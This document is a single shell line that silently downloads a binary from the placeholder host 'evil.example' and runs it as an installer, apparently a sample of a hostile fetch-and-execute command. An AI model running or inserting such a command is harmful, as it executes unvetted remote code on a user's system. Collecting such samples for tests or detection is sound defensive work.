curl -sLo helper https://evil.example/helper; ./helper --install
